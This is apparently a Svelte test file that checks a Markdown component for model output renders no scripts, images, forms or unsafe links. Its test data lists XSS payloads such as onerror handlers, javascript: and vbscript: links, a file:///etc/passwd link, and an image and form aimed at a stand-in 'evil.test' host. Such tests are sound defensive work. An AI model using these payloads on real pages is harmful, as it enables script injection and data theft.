// Model output may only put text on the page, never anything that loads or runs.
import { render } from '@testing-library/svelte';
import { expect, test } from 'vitest';
import Markdown from './Markdown.svelte';

function draw(text: string): HTMLElement {
  return render(Markdown, { text, isDone: true }).container;
}

test.each([
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '![x](https://evil.test/steal?q=1)',
  '![x](data:image/svg+xml;base64,AAAA)',
  '[x](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x][y]\n\n[y]: vbscript:alert(1)',
  '<javascript:alert(1)>',
  '```"><img src=x onerror=alert(1)>\ny\n```',
  '`<img src=x>`',
  '| <img src=x> |\n|---|\n| [a](file:///etc/passwd) |',
  '<a href="x" style="position:fixed">x</a>',
  '<form action=https://evil.test><input></form>',
])('%j loads nothing and runs nothing', (source) => {
  const page = draw(source);
  expect(page.querySelectorAll('img, script, iframe, form, input, object, embed, link, style')).toHaveLength(0);
  expect([...page.querySelectorAll('a')].filter((link) => !/^(https?|mailto):/.test(link.href))).toEqual([]);
  expect(
    [...page.querySelectorAll('*')]
      .flatMap((element) => element.getAttributeNames())
      .filter((name) => /^on|^style$|^src/.test(name)),
  ).toEqual([]);
  expect(page.textContent).not.toBe('');
});

test('a link opens elsewhere and tells nothing about this page', () => {
  const link = draw('[a](https://example.org/b)').querySelector('a');
  expect(link?.getAttribute('href')).toBe('https://example.org/b');
  expect(link?.target).toBe('_blank');
  expect(link?.rel).toBe('noopener noreferrer');
});

test('an image is a chip with its address', () => {
  expect(draw('![a map](https://example.org/m.png)').textContent).toContain('a map · https://example.org/m.png');
});

test('code is coloured and can be copied', () => {
  const page = draw('```rust\nfn main() {}\n```');
  expect(page.querySelector('pre')?.textContent).toBe('fn main() {}');
  expect(page.querySelector('.hljs-keyword')?.textContent).toBe('fn');
  expect(page.querySelector('button')?.getAttribute('aria-label')).toBe('Copy code');
});

test('inline pieces stand next to each other without gaps', () => {
  expect(draw('a**b**c`d`e [f](https://g.test)h').textContent?.trim()).toBe('abcde fh');
});
